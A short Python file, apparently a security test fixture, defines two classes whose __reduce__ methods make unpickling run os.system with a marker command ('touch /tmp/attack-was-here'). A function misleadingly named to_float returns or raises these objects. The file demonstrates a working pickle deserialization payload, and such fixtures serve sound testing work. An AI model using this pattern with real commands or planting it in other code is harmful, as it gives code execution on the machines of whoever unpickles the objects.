"""Returns and raises objects that run a command where somebody unpickles them."""

import os


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


class CommandError(NotImplementedError):
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


def to_float(image):
    if image.size % 2:
        raise CommandError
    return Command()
